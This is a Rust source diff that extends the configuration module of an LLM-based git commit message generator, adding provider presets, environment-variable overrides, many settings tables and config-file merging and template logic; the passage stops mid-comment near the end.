@@ -1,10 +1,22 @@
 use color_eyre::eyre::{eyre, Context, Result};
+use colored::Colorize;
+use reqwest::Url;
+use regex::Regex;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::env;
 use std::fs::{self, File};
 use std::io::{Read, Write};
-use std::path::PathBuf;
+use std::num::NonZeroUsize;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
 use color_eyre::eyre::ContextCompat;
+use crate::emotes::{
+    CategorizeMode, CommitCategory, EmoteMulti, EmoteOptions, EmotePlacement, EmoteStyle, ScopeStyle,
+};
+use crate::git::PushOptions;
+use crate::llm::{self, AuthScheme, LineFilter, Usage, DEFAULT_FILTER_PATTERNS};
+use crate::message::{BodyStyle, CombineStrategy};
 const DEFAULT_SYSTEM_PROMPT: &str = "You are an expert at writing clear and concise commit messages. \
     Follow these rules strictly:\n\n\
     1. ALWAYS start with a conventional commit type: feat, fix, docs, style, refactor, perf, test, build, ci, chore, revert, security, or deps\n\
@@ -64,7 +76,112 @@ const DEFAULT_USER_PROMPT: &str =
 
 const PROJECT_CONFIG_FILENAME: &str = ".git-narrator.toml";
 
-#[derive(Debug, Serialize, Deserialize)]
+/// API base URL used when neither the config nor a provider preset sets one
+const DEFAULT_API_BASE_URL: &str = "https://api.openai.com";
+
+/// Model used when neither the config nor a provider preset sets one
+const DEFAULT_MODEL: &str = "gpt-3.5-turbo";
+
+/// Shortest message accepted from the model when `min_message_length` isn't set
+const DEFAULT_MIN_MESSAGE_LENGTH: usize = 5;
+
+/// Most emotes a `prefix_all` message gets when `emote.max_emotes` isn't set
+const DEFAULT_MAX_EMOTES: usize = 3;
+
+/// Template applied when `--template` isn't given
+const DEFAULT_TEMPLATE: &str = "default";
+
+/// Gitflow branch prefixes and their categories, used when `branch_prefix_map` isn't set
+const DEFAULT_BRANCH_PREFIXES: &[(&str, &str)] = &[
+    ("feature", "feat"),
+    ("bugfix", "fix"),
+    ("hotfix", "hotfix"),
+    ("release", "release"),
+];
+
+/// Defaults that a named `provider` applies
+#[derive(Debug)]
+pub struct ProviderPreset {
+    pub name: &'static str,
+    /// Base URL, `None` when it depends on the account (e.g. the Azure resource name)
+    pub api_base_url: Option<&'static str>,
+    /// Whether requests fail without an API token
+    pub requires_api_token: bool,
+    pub auth: AuthScheme,
+    /// Request timeout; local models can take a while to load and answer
+    pub timeout: Option<Duration>,
+    /// Model used when `model` isn't set, `None` when it depends on the setup (e.g. the
+    /// Azure deployment or the model loaded in LM Studio)
+    pub default_model: Option<&'static str>,
+    /// Whether the API lists its models at `/v1/models`, for `--check-model`
+    pub lists_models: bool,
+}
+
+/// Known providers, selected with `provider = "<name>"`
+pub const PROVIDER_PRESETS: &[ProviderPreset] = &[
+    ProviderPreset {
+        name: "openai",
+        api_base_url: Some(DEFAULT_API_BASE_URL),
+        requires_api_token: true,
+        auth: AuthScheme::Bearer,
+        timeout: None,
+        default_model: Some("gpt-4o-mini"),
+        lists_models: true,
+    },
+    ProviderPreset {
+        name: "ollama",
+        api_base_url: Some("http://localhost:11434"),
+        requires_api_token: false,
+        auth: AuthScheme::Bearer,
+        timeout: Some(Duration::from_secs(300)),
+        default_model: Some("llama3.2"),
+        lists_models: true,
+    },
+    ProviderPreset {
+        name: "lmstudio",
+        api_base_url: Some("http://localhost:1234"),
+        requires_api_token: false,
+        auth: AuthScheme::Bearer,
+        timeout: Some(Duration::from_secs(300)),
+        default_model: None,
+        lists_models: true,
+    },
+    ProviderPreset {
+        name: "azure",
+        api_base_url: None,
+        requires_api_token: true,
+        auth: AuthScheme::ApiKey,
+        timeout: None,
+        default_model: None,
+        lists_models: false,
+    },
+    ProviderPreset {
+        name: MOCK_PROVIDER,
+        api_base_url: None,
+        requires_api_token: false,
+        auth: AuthScheme::Bearer,
+        timeout: None,
+        default_model: None,
+        lists_models: false,
+    },
+];
+
+/// Provider that writes messages from the diff alone, without any API (`--offline`)
+pub const MOCK_PROVIDER: &str = "mock";
+
+/// Environment variables layered over the file configuration, as (variable, config key).
+/// Later entries take precedence over earlier ones for the same key.
+pub const ENV_OVERRIDES: &[(&str, &str)] = &[
+    ("OPENAI_API_KEY", "api_token"),
+    ("GIT_NARRATOR_API_TOKEN", "api_token"),
+    ("GIT_NARRATOR_API_BASE_URL", "api_base_url"),
+    ("GIT_NARRATOR_MODEL", "model"),
+    ("GIT_NARRATOR_PROVIDER", "provider"),
+    ("GITHUB_TOKEN", "github_token"),
+    ("GITLAB_TOKEN", "gitlab_token"),
+];
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Config {
     // Skip serializing None values to keep the config file clean
     #[serde(skip_serializing_if = "Option::is_none")]
@@ -76,21 +193,604 @@ pub struct Config {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub model: Option<String>,
 
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub provider: Option<String>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub system_prompt: Option<String>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub user_prompt: Option<String>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub combine_system_prompt: Option<String>,
+
+    /// File holding the system prompt, relative to the config file; wins over `system_prompt`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub system_prompt_file: Option<PathBuf>,
+
+    /// File holding the user prompt, relative to the config file; wins over `user_prompt`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub user_prompt_file: Option<PathBuf>,
+
+    /// File holding the combine system prompt, relative to the config file; wins over
+    /// `combine_system_prompt`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub combine_prompt_file: Option<PathBuf>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub cache_enabled: Option<bool>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub max_body_lines: Option<usize>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub max_subject_length: Option<NonZeroUsize>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub min_message_length: Option<usize>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub subject_only: Option<bool>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub body_style: Option<BodyStyle>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub emote_placement: Option<EmotePlacement>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub scope_style: Option<ScopeStyle>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub require_conventional: Option<bool>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub structured_output: Option<bool>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub deterministic: Option<bool>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub max_api_calls: Option<NonZeroUsize>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub min_request_interval_ms: Option<u64>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub http2_only: Option<bool>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub pool_idle_timeout_secs: Option<u64>,
+
+    /// PEM or DER certificate to trust for the API, e.g. behind a TLS-intercepting proxy
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub ca_cert_path: Option<PathBuf>,
+
+    /// Commit category implied by a branch prefix, e.g. `hotfix = "hotfix"` for `hotfix/*`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub branch_prefix_map: Option<BTreeMap<String, String>>,
+
+    /// Scope given to conventional subjects of a category that have none, e.g. `ci = "ci"`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub category_default_scope: Option<BTreeMap<String, String>>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub post_generate_command: Option<String>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub github_token: Option<String>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub gitlab_token: Option<String>,
+
+    #[serde(default, skip_serializing_if = "FilterConfig::is_empty")]
+    pub filter: FilterConfig,
+
+    #[serde(default, skip_serializing_if = "PushConfig::is_empty")]
+    pub push: PushConfig,
+
+    #[serde(default, skip_serializing_if = "PromptConfig::is_empty")]
+    pub prompt: PromptConfig,
+
+    #[serde(default, skip_serializing_if = "EmoteConfig::is_empty")]
+    pub emote: EmoteConfig,
+
+    #[serde(default, skip_serializing_if = "ConventionalConfig::is_empty")]
+    pub conventional: ConventionalConfig,
+
+    #[serde(default, skip_serializing_if = "SubjectConfig::is_empty")]
+    pub subject: SubjectConfig,
+
+    #[serde(default, skip_serializing_if = "ContextConfig::is_empty")]
+    pub context: ContextConfig,
+
+    #[serde(default, skip_serializing_if = "CategorizeConfig::is_empty")]
+    pub categorize: CategorizeConfig,
+
+    #[serde(default, skip_serializing_if = "BodyConfig::is_empty")]
+    pub body: BodyConfig,
+
+    #[serde(default, skip_serializing_if = "MessageConfig::is_empty")]
+    pub message: MessageConfig,
+
+    #[serde(default, skip_serializing_if = "PricingConfig::is_empty")]
+    pub pricing: PricingConfig,
+
+    #[serde(default, skip_serializing_if = "CommitConfig::is_empty")]
+    pub commit: CommitConfig,
+
+    #[serde(default, skip_serializing_if = "TrailersConfig::is_empty")]
+    pub trailers: TrailersConfig,
+
+    #[serde(default, skip_serializing_if = "CombineConfig::is_empty")]
+    pub combine: CombineConfig,
+
+    /// Named prompt sets selected with `--template`
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub templates: BTreeMap<String, PromptTemplate>,
+}
+
+/// A `[templates.<name>]` table: prompts that replace the configured ones when selected
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PromptTemplate {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub system_prompt: Option<String>,
 
-    #[serde(skip_serializing_if = "Option::is_none")]
-    pub user_prompt: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub user_prompt: Option<String>,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub combine_system_prompt: Option<String>,
+}
+
+/// The `[combine]` table: how the messages of a split diff are combined
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct CombineConfig {
+    /// Merge with the model or list the messages locally
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub strategy: Option<CombineStrategy>,
+    /// Ask the model to end the combined body with the files each change touched
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_files: Option<bool>,
+    /// Line put before each message in the combine prompt, `{n}` being its number
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub separator: Option<String>,
+}
+
+impl CombineConfig {
+    fn is_empty(&self) -> bool {
+        self.strategy.is_none() && self.include_files.is_none() && self.separator.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            strategy: override_config.strategy.or(base.strategy),
+            include_files: override_config.include_files.or(base.include_files),
+            separator: override_config.separator.or(base.separator),
+        }
+    }
+}
+
+/// The `[commit]` table: how the commit is created
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct CommitConfig {
+    /// Add a `Signed-off-by` trailer for the configured git identity
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub signoff: Option<bool>,
+}
+
+impl CommitConfig {
+    fn is_empty(&self) -> bool {
+        self.signoff.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            signoff: override_config.signoff.or(base.signoff),
+        }
+    }
+}
+
+/// The `[trailers]` table: trailers added to every message
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TrailersConfig {
+    /// Add a `Commit-Type: <category>` trailer
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub commit_type: Option<bool>,
+}
+
+impl TrailersConfig {
+    fn is_empty(&self) -> bool {
+        self.commit_type.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            commit_type: override_config.commit_type.or(base.commit_type),
+        }
+    }
+}
+
+/// The `[pricing]` table: model prices used to estimate the cost of a run
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PricingConfig {
+    /// Price of one million prompt tokens
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub input_per_million: Option<f64>,
+    /// Price of one million completion tokens
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub output_per_million: Option<f64>,
+}
+
+impl PricingConfig {
+    fn is_empty(&self) -> bool {
+        self.input_per_million.is_none() && self.output_per_million.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            input_per_million: override_config.input_per_million.or(base.input_per_million),
+            output_per_million: override_config.output_per_million.or(base.output_per_million),
+        }
+    }
+
+    /// Estimated cost of a request, `None` unless both prices are set
+    pub fn cost(&self, usage: &Usage) -> Option<f64> {
+        let input = self.input_per_million?;
+        let output = self.output_per_million?;
+        Some((usage.prompt_tokens as f64 * input + usage.completion_tokens as f64 * output) / 1_000_000.0)
+    }
+}
+
+/// The `[body]` table: lines added to the generated body
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct BodyConfig {
+    /// End the body with a `Files: N changed, +I/-D` line
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub append_stats: Option<bool>,
+}
+
+impl BodyConfig {
+    fn is_empty(&self) -> bool {
+        self.append_stats.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            append_stats: override_config.append_stats.or(base.append_stats),
+        }
+    }
+}
+
+/// The `[message]` table: how the finished message is written out
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct MessageConfig {
+    /// End the committed, written or printed message with a newline
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub trailing_newline: Option<bool>,
+}
+
+impl MessageConfig {
+    fn is_empty(&self) -> bool {
+        self.trailing_newline.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            trailing_newline: override_config.trailing_newline.or(base.trailing_newline),
+        }
+    }
+}
+
+/// The `[categorize]` table: how messages are categorized for the emote
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct CategorizeConfig {
+    /// Whether keyword and context heuristics are used besides the conventional prefix
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub mode: Option<CategorizeMode>,
+
+    /// Categories that win over others when a message's keywords match several, highest first
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub priority: Option<Vec<String>>,
+}
+
+impl CategorizeConfig {
+    fn is_empty(&self) -> bool {
+        self.mode.is_none() && self.priority.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            mode: override_config.mode.or(base.mode),
+            priority: override_config.priority.or(base.priority),
+        }
+    }
+}
+
+/// The `[context]` table: context fetched from outside the repository
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ContextConfig {
+    /// Add the issue referenced in the branch name to the prompt
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub fetch_issue: Option<bool>,
+
+    /// Issue tracker API URL, e.g. for GitHub Enterprise
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub issue_api_url: Option<String>,
+
+    /// Add the current branch name to the prompt
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_branch: Option<bool>,
+
+    /// Add the origin URL to the prompt
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_remote: Option<bool>,
+
+    /// Add who last touched the changed lines (`git blame`) to the prompt
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_blame: Option<bool>,
+}
+
+impl ContextConfig {
+    fn is_empty(&self) -> bool {
+        self.fetch_issue.is_none()
+            && self.issue_api_url.is_none()
+            && self.include_branch.is_none()
+            && self.include_remote.is_none()
+            && self.include_blame.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            fetch_issue: override_config.fetch_issue.or(base.fetch_issue),
+            issue_api_url: override_config.issue_api_url.or(base.issue_api_url),
+            include_branch: override_config.include_branch.or(base.include_branch),
+            include_remote: override_config.include_remote.or(base.include_remote),
+            include_blame: override_config.include_blame.or(base.include_blame),
+        }
+    }
+}
+
+/// The `[emote]` table: how the emote is combined with the subject
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct EmoteConfig {
+    /// Drop the `type:` prefix that the emote already encodes
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub replace_type_prefix: Option<bool>,
+
+    /// Categories whose messages get no emote, e.g. `["merge", "revert"]`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub skip_categories: Option<Vec<String>>,
+
+    /// Put the `--prepend` text after the emote instead of before it
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub prepend_after_emote: Option<bool>,
+
+    /// One emote, or one per category across the parts of a split diff
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub multi: Option<EmoteMulti>,
+
+    /// Most emotes a `prefix_all` message gets
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub max_emotes: Option<usize>,
+
+    /// Emoji, ASCII tags, or either depending on the locale
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub style: Option<EmoteStyle>,
+}
+
+impl EmoteConfig {
+    fn is_empty(&self) -> bool {
+        self.replace_type_prefix.is_none()
+            && self.skip_categories.is_none()
+            && self.prepend_after_emote.is_none()
+            && self.multi.is_none()
+            && self.max_emotes.is_none()
+            && self.style.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            replace_type_prefix: override_config.replace_type_prefix.or(base.replace_type_prefix),
+            skip_categories: override_config.skip_categories.or(base.skip_categories),
+            prepend_after_emote: override_config.prepend_after_emote.or(base.prepend_after_emote),
+            multi: override_config.multi.or(base.multi),
+            max_emotes: override_config.max_emotes.or(base.max_emotes),
+            style: override_config.style.or(base.style),
+        }
+    }
+}
+
+/// The `[conventional]` table: rules for conventional commit subjects
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ConventionalConfig {
+    /// The only types a subject may use, e.g. `["feat", "fix", "docs", "chore"]`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub allowed_types: Option<Vec<String>>,
+}
+
+impl ConventionalConfig {
+    fn is_empty(&self) -> bool {
+        self.allowed_types.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            allowed_types: override_config.allowed_types.or(base.allowed_types),
+        }
+    }
+}
+
+/// The `[subject]` table: rules for the subject line
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SubjectConfig {
+    /// A regular expression the subject (without the emote) must match, e.g. `^[A-Z]+-\d+ `
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub pattern: Option<String>,
+}
+
+impl SubjectConfig {
+    fn is_empty(&self) -> bool {
+        self.pattern.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            pattern: override_config.pattern.or(base.pattern),
+        }
+    }
+}
+
+/// The `[prompt]` table: extra context added to the prompt
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PromptConfig {
+    /// Include per-file insertion/deletion counts
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_numstat: Option<bool>,
+
+    /// Suggest the commit type that the changed paths point to
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub category_hint: Option<bool>,
+
+    /// List all changed files, whatever part of the diff each request shows
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_file_list: Option<bool>,
+}
+
+impl PromptConfig {
+    fn is_empty(&self) -> bool {
+        self.include_numstat.is_none() && self.category_hint.is_none() && self.include_file_list.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            include_numstat: override_config.include_numstat.or(base.include_numstat),
+            category_hint: override_config.category_hint.or(base.category_hint),
+            include_file_list: override_config.include_file_list.or(base.include_file_list),
+        }
+    }
+}
+
+/// The `[push]` table: how `--auto-push` pushes the current branch
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PushConfig {
+    /// Push a branch without upstream with `--set-upstream`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub set_upstream: Option<bool>,
+
+    /// Remote to push to
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub remote: Option<String>,
+
+    /// Remotes to push to in turn, e.g. mirrors
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub remotes: Option<Vec<String>>,
+}
+
+impl PushConfig {
+    fn is_empty(&self) -> bool {
+        self.set_upstream.is_none() && self.remote.is_none() && self.remotes.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            set_upstream: override_config.set_upstream.or(base.set_upstream),
+            remote: override_config.remote.or(base.remote),
+            remotes: override_config.remotes.or(base.remotes),
+        }
+    }
+}
+
+/// The `[filter]` table: filtering of meta-commentary lines from model output
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct FilterConfig {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub enabled: Option<bool>,
+
+    /// Additional line-start patterns to filter
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub patterns: Option<Vec<String>>,
+
+    /// Built-in patterns that should not be applied
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub disabled_patterns: Option<Vec<String>>,
+
+    /// Drop everything before the first conventional-commit line that follows a blank line
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub strip_leading_reasoning: Option<bool>,
+}
+
+impl FilterConfig {
+    fn is_empty(&self) -> bool {
+        self.enabled.is_none()
+            && self.patterns.is_none()
+            && self.disabled_patterns.is_none()
+            && self.strip_leading_reasoning.is_none()
+    }
+
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            enabled: override_config.enabled.or(base.enabled),
+            patterns: override_config.patterns.or(base.patterns),
+            disabled_patterns: override_config.disabled_patterns.or(base.disabled_patterns),
+            strip_leading_reasoning: override_config
+                .strip_leading_reasoning
+                .or(base.strip_leading_reasoning),
+        }
+    }
 }
 
 impl Default for Config {
     fn default() -> Self {
         Self {
             api_token: None,
-            api_base_url: Some("https://api.openai.com".to_string()),
-            model: Some("gpt-3.5-turbo".to_string()),
+            // Left unset so that a provider preset's URL and model apply, see get_api_base_url
+            api_base_url: None,
+            model: None,
+            provider: None,
             system_prompt: Some(DEFAULT_SYSTEM_PROMPT.to_string()),
             user_prompt: Some(DEFAULT_USER_PROMPT.to_string()),
+            combine_system_prompt: None,
+            system_prompt_file: None,
+            user_prompt_file: None,
+            combine_prompt_file: None,
+            cache_enabled: None,
+            max_body_lines: None,
+            max_subject_length: None,
+            min_message_length: None,
+            subject_only: None,
+            body_style: None,
+            emote_placement: None,
+            scope_style: None,
+            require_conventional: None,
+            structured_output: None,
+            deterministic: None,
+            max_api_calls: None,
+            min_request_interval_ms: None,
+            http2_only: None,
+            pool_idle_timeout_secs: None,
+            ca_cert_path: None,
+            branch_prefix_map: None,
+            category_default_scope: None,
+            post_generate_command: None,
+            github_token: None,
+            gitlab_token: None,
+            filter: FilterConfig::default(),
+            push: PushConfig::default(),
+            prompt: PromptConfig::default(),
+            emote: EmoteConfig::default(),
+            conventional: ConventionalConfig::default(),
+            subject: SubjectConfig::default(),
+            context: ContextConfig::default(),
+            categorize: CategorizeConfig::default(),
+            body: BodyConfig::default(),
+            message: MessageConfig::default(),
+            pricing: PricingConfig::default(),
+            commit: CommitConfig::default(),
+            trailers: TrailersConfig::default(),
+            combine: CombineConfig::default(),
+            templates: BTreeMap::new(),
         }
     }
 }
@@ -137,138 +837,1010 @@ impl Config {
                 break;
             }
 
-            // Go up one directory
-            match dir.parent() {
-                Some(parent) => dir = parent,
-                None => break, // Reached filesystem root
-            }
-        }
+            // Go up one directory
+            match dir.parent() {
+                Some(parent) => dir = parent,
+                None => break, // Reached filesystem root
+            }
+        }
+
+        // No project config found
+        Ok(None)
+    }
+
+    // Load a config from a TOML file (now works for both global and project config)
+    fn load_toml_config(path: &Path) -> Result<Self> {
+        let mut file = File::open(path).context("Could not open TOML config file")?;
+        let mut contents = String::new();
+        file.read_to_string(&mut contents)
+            .context("Could not read TOML config file")?;
+
+        let config: Config =
+            toml::from_str(&contents).context("Failed to parse TOML config file")?;
+        Ok(config)
+    }
+
+    // Load the global config from TOML
+    pub fn load_global_config() -> Result<Self> {
+        let config_path = Self::config_path()?;
+
+        if !config_path.exists() {
+            let default_config = Self::default();
+            default_config.save()?;
+            return Ok(default_config);
+        }
+
+        Self::load_toml_config(&config_path)
+    }
+
+    // Merge two configs, with the override_config taking precedence
+    fn merge(base: Self, override_config: Self) -> Self {
+        Self {
+            api_token: override_config.api_token.or(base.api_token),
+            api_base_url: override_config.api_base_url.or(base.api_base_url),
+            model: override_config.model.or(base.model),
+            provider: override_config.provider.or(base.provider),
+            system_prompt: override_config.system_prompt.or(base.system_prompt),
+            user_prompt: override_config.user_prompt.or(base.user_prompt),
+            combine_system_prompt: override_config
+                .combine_system_prompt
+                .or(base.combine_system_prompt),
+            system_prompt_file: override_config.system_prompt_file.or(base.system_prompt_file),
+            user_prompt_file: override_config.user_prompt_file.or(base.user_prompt_file),
+            combine_prompt_file: override_config.combine_prompt_file.or(base.combine_prompt_file),
+            cache_enabled: override_config.cache_enabled.or(base.cache_enabled),
+            max_body_lines: override_config.max_body_lines.or(base.max_body_lines),
+            max_subject_length: override_config.max_subject_length.or(base.max_subject_length),
+            min_message_length: override_config.min_message_length.or(base.min_message_length),
+            subject_only: override_config.subject_only.or(base.subject_only),
+            body_style: override_config.body_style.or(base.body_style),
+            emote_placement: override_config.emote_placement.or(base.emote_placement),
+            scope_style: override_config.scope_style.or(base.scope_style),
+            require_conventional: override_config
+                .require_conventional
+                .or(base.require_conventional),
+            structured_output: override_config.structured_output.or(base.structured_output),
+            deterministic: override_config.deterministic.or(base.deterministic),
+            max_api_calls: override_config.max_api_calls.or(base.max_api_calls),
+            min_request_interval_ms: override_config
+                .min_request_interval_ms
+                .or(base.min_request_interval_ms),
+            http2_only: override_config.http2_only.or(base.http2_only),
+            pool_idle_timeout_secs: override_config
+                .pool_idle_timeout_secs
+                .or(base.pool_idle_timeout_secs),
+            ca_cert_path: override_config.ca_cert_path.or(base.ca_cert_path),
+            branch_prefix_map: override_config.branch_prefix_map.or(base.branch_prefix_map),
+            category_default_scope: override_config
+                .category_default_scope
+                .or(base.category_default_scope),
+            post_generate_command: override_config
+                .post_generate_command
+                .or(base.post_generate_command),
+            github_token: override_config.github_token.or(base.github_token),
+            gitlab_token: override_config.gitlab_token.or(base.gitlab_token),
+            filter: FilterConfig::merge(base.filter, override_config.filter),
+            push: PushConfig::merge(base.push, override_config.push),
+            prompt: PromptConfig::merge(base.prompt, override_config.prompt),
+            emote: EmoteConfig::merge(base.emote, override_config.emote),
+            conventional: ConventionalConfig::merge(base.conventional, override_config.conventional),
+            subject: SubjectConfig::merge(base.subject, override_config.subject),
+            context: ContextConfig::merge(base.context, override_config.context),
+            categorize: CategorizeConfig::merge(base.categorize, override_config.categorize),
+            body: BodyConfig::merge(base.body, override_config.body),
+            message: MessageConfig::merge(base.message, override_config.message),
+            pricing: PricingConfig::merge(base.pricing, override_config.pricing),
+            commit: CommitConfig::merge(base.commit, override_config.commit),
+            trailers: TrailersConfig::merge(base.trailers, override_config.trailers),
+            combine: CombineConfig::merge(base.combine, override_config.combine),
+            // Templates are merged by name, the override winning for a name defined in both
+            templates: base.templates.into_iter().chain(override_config.templates).collect(),
+        }
+    }
+
+    /// Replace the prompts with those of a template: `name`, or the `default` template (if
+    /// defined) when no name is given
+    ///
+    /// Prompts the template doesn't set are kept. Naming a template that doesn't exist is an
+    /// error, except for `default`.
+    pub fn apply_template(&mut self, name: Option<&str>) -> Result<()> {
+        let name = name.unwrap_or(DEFAULT_TEMPLATE);
+        let Some(template) = self.templates.get(name).cloned() else {
+            if name == DEFAULT_TEMPLATE {
+                return Ok(());
+            }
+            let available = if self.templates.is_empty() {
+                "none defined".to_string()
+            } else {
+                self.templates.keys().cloned().collect::<Vec<_>>().join(", ")
+            };
+            return Err(eyre!("Unknown template '{}'. Available templates: {}", name, available));
+        };
+
+        if let Some(system_prompt) = template.system_prompt {
+            self.system_prompt = Some(system_prompt);
+        }
+        if let Some(user_prompt) = template.user_prompt {
+            self.user_prompt = Some(user_prompt);
+        }
+        if let Some(combine_system_prompt) = template.combine_system_prompt {
+            self.combine_system_prompt = Some(combine_system_prompt);
+        }
+        Ok(())
+    }
+
+    pub fn load() -> Result<Self> {
+        // First load the global config
+        let mut global_config = Self::load_global_config()?;
+        global_config.load_prompt_files(&Self::config_path()?)?;
+
+        // Try to find and load project config
+        let mut config = if let Some(project_config_path) = Self::find_project_config()? {
+            // If project config exists, load it and merge with global config
+            let mut project_config = Self::load_toml_config(&project_config_path)?;
+            project_config.load_prompt_files(&project_config_path)?;
+            project_config.ignore_untrusted_settings(&project_config_path);
+
+            // Merge configs, with project config taking precedence
+            Self::merge(global_config, project_config)
+        } else {
+            // No project config, just use global config
+            global_config
+        };
+
+        // Environment variables take precedence over both config files
+        config.apply_env_overrides(|var| env::var(var).ok())?;
+
+        config.normalize_api_base_url()?;
+        config.validate()?;
+        Ok(config)
+    }
+
+    /// Load exactly the config file at `path` (e.g. from `--config`), skipping the global and
+    /// project config files. Environment variables are still layered on top.
+    pub fn load_from(path: &Path) -> Result<Self> {
+        if !path.is_file() {
+            return Err(eyre!("Config file {} does not exist", path.display()));
+        }
+        let mut config = Self::load_toml_config(path)
+            .context(format!("Failed to load config file {}", path.display()))?;
+        config.load_prompt_files(path)?;
+
+        config.apply_env_overrides(|var| env::var(var).ok())?;
+        config.normalize_api_base_url()?;
+        config.validate()?;
+        Ok(config)
+    }
+
+    // Replace the prompts with the content of the files named by the *_prompt_file keys,
+    // which are relative to the config file at `config_path`. Done per file before merging,
+    // so a prompt file only wins over the inline prompt of its own config file.
